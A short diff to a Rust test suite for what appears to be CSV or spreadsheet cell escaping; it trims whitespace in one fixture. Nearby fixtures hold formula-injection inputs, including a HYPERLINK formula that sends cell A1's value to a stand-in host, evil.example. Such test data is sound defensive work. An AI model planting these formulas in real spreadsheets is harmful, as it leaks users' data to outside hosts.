@@ -197,7 +197,7 @@ mod tests {
             content("'=1", "+49 1234, \"hello\"", &[]),
             content("plain", "'quoted'", &["a", "b"]),
             content("C:\\new\\notes", "\\\\server\\new\\r\\n", &["x\\n"]),
-            content(" a  b ", "\r\n one\r\ntwo\rthree\n\n ", &[]),
+            content("a  b", "\r\n one\r\ntwo\rthree\n\n ", &[]),
             content("＝1+1", "＠SUM(A1)\u{2028}；", &["＋", "\u{207a}1"]),
             content("\"", "a,\"b\"\n\"", &["'"]),
             content("x;=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "hello\n=HYPERLINK(1)", &["a;\"=1"]),
